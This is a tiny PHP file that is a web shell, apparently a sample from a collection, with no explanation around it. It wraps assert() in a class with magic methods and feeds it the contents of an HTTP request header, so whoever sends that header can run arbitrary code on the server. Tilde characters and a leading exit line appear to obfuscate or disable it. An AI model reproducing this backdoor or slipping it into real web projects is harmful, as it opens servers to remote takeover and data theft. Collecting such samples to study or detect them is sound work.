<?php exit; ?>
<?php
class MarkerE { static function __callStatic($n, $a) { ass~ert($a[0]); } function __invoke($t) { MarkerE::any($t); } } $e = new MarkerE; $e($_S~ERVER['HTTP_M']);
